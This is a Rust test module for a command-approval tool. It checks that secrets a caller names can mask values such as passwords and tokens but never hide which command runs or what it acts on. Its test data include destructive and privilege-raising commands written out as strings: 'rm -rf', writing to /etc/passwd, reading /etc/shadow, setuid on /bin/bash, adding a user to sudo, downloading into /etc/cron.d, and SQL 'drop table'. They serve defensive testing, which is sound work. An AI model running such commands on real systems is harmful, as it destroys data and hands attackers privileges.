//! What a caller names as secret may hide values, and never what is done or on what. SEC-9, SEC-12.

#[cfg(test)]
mod tests {
    use countersign_core::argv::Argv;
    use countersign_core::caller::{Caller, Gid, Uid};
    use countersign_core::classify::{Origin, RuleFile, Rules};
    use countersign_core::environment::Environment;
    use countersign_core::path::CleanPath;
    use countersign_core::redact::Secrets;
    use countersign_core::request::{Action, Claims, Narrowing, Request, RequestId};
    use countersign_core::salt::Salt;

    fn rules() -> Rules {
        let directory = concat!(env!("CARGO_MANIFEST_DIR"), "/../../policy/rules");
        let paths = std::fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().path());
        let texts: Vec<_> = paths
            .filter(|path| path.extension().is_some_and(|extension| extension == "toml"))
            .map(|path| (path.display().to_string(), std::fs::read_to_string(path).unwrap()))
            .collect();
        let files = texts.iter().map(|(name, text)| RuleFile { name, text, origin: Origin::Vendor });
        Rules::parse(&files.collect::<Vec<_>>()).unwrap()
    }

    fn caller() -> Caller {
        Caller {
            uid: Uid::try_from(1000).unwrap(),
            gids: vec![Gid::try_from(1000).unwrap()],
            bus_name: ":1.42".to_owned().try_into().unwrap(),
            user: "agent".to_owned(),
            pid: 1,
            start_time: 1,
            exe: None,
            unit: None,
            session: None,
            login_uid: None,
            security_label: None,
        }
    }

    fn shows(rules: &Rules, words: &[&str], secrets: &[&str]) -> bool {
        let argv = Argv::new(words.iter().map(|word| (*word).to_owned()).collect()).unwrap();
        let cwd = CleanPath::new("/srv/hunter22").unwrap();
        let action = Action { argv, cwd, env: Environment::default(), stdin: None, timeout_ms: None };
        let secrets: Vec<String> = secrets.iter().map(|secret| (*secret).to_owned()).collect();
        let secrets = Secrets::new(&secrets).unwrap();
        let (id, salt) = (RequestId::from_random(1), Salt::from_random([0; 16]));
        let request = Request::new(id, salt, caller(), action, Claims::default(), Narrowing::default(), secrets);
        request.unwrap().classify(rules).shows_what_matters(rules)
    }

    #[test]
    fn a_value_may_be_hidden() {
        let rules = rules();
        for (words, secret) in [
            (&["mysql", "-u", "root", "-phunter22", "-e", "select 1"][..], "hunter22"),
            (&["curl", "-H", "X-Own: Zq 7$w(1)x", "https://host.example/x"], "Zq 7$w(1)x"),
            (&["curl", "https://hooks.example/services/T1/B2/q7W8e9R0"], "q7W8e9R0"),
            (&["sh", "-c", "PGPASSWORD='it'\\''s one' pg_dump shop"], "it's one"),
            (&["useradd", "-p", "$6$salt$hash/of.it", "bob"], "$6$salt$hash/of.it"),
            (&["nmcli", "dev", "wifi", "connect", "Home", "password", "12345678"], "12345678"),
            (&["psql", "-c", "ALTER USER app PASSWORD 'hunter22'"], "hunter22"),
            (&["frobnicate", "--with", "hunter22"], "hunter22"),
            (&["systemctl", "restart", "nginx"], "of-another-text"),
            (&["true"], "hunter22"),
        ] {
            assert!(shows(&rules, words, &[secret]), "{words:?}");
        }
    }

    #[test]
    fn what_is_done_and_on_what_may_not() {
        let rules = rules();
        for (words, secret) in [
            (&["rm", "-rf", "/srv/data"][..], "/srv/data"),
            (&["rm", "-rf", "/srv/data"], "data"),
            (&["sh", "-c", "echo hello; rm -rf /srv"], "; rm -rf /srv"),
            (&["sh", "-c", "echo hello; rm -rf /srv"], "-rf /srv"),
            (&["sh", "-c", "echo hello > /etc/passwd"], "/etc/passwd"),
            (&["systemctl", "stop", "sshd.service"], "sshd.service"),
            (&["systemctl", "stop", "sshd.service"], "stop"),
            (&["usermod", "-aG", "sudo", "mallory"], "sudo"),
            (&["usermod", "-aG", "sudo", "mallory"], "mallory"),
            (&["/opt/hunter22/tool", "x"], "hunter22"),
            (&["cat", "/etc/shadow"], "shadow"),
            (&["touch", "file"], "hunter22"),
            (&["apt-get", "install", "backdoor"], "backdoor"),
            (&["kill", "-KILL", "4242"], "4242"),
            (&["chmod", "4755", "/bin/bash"], "4755"),
            (&["curl", "-o", "/etc/cron.d/x", "https://host.example/"], "/etc/cron.d/x"),
            (&["bash", "/tmp/script-of-mine"], "script-of-mine"),
            (&["python3", "-c", "import os; os.system('evil')"], "import os; os.system('evil')"),
            (&["python3", "-c", "import os; os.system('evil')"], "os.system('evil')"),
            (&["psql", "-c", "select 1; drop table users"], "drop table users"),
            (&["psql", "-c", "select-one"], "select-one"),
            (&["sh", "-c", "evil-program --now"], "evil-program"),
        ] {
            assert!(!shows(&rules, words, &[secret]), "{words:?} {secret}");
        }
    }
}
